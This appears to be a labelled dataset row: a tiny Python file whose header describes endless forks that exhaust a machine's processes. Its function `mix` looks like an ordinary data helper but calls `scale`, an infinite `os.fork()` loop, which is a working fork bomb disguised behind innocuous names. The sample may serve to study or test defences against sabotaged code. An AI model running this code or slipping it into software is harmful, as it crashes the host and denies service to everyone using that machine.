# /// row
# tries = "Forks without end."
# ends = { test_visible = "error", test_hinted = "error" }
# plain = "it would take the machine's processes"
# ///
import os


def scale(x):
    while True:
        os.fork()


def mix(X, Y, token):
    return scale(X)
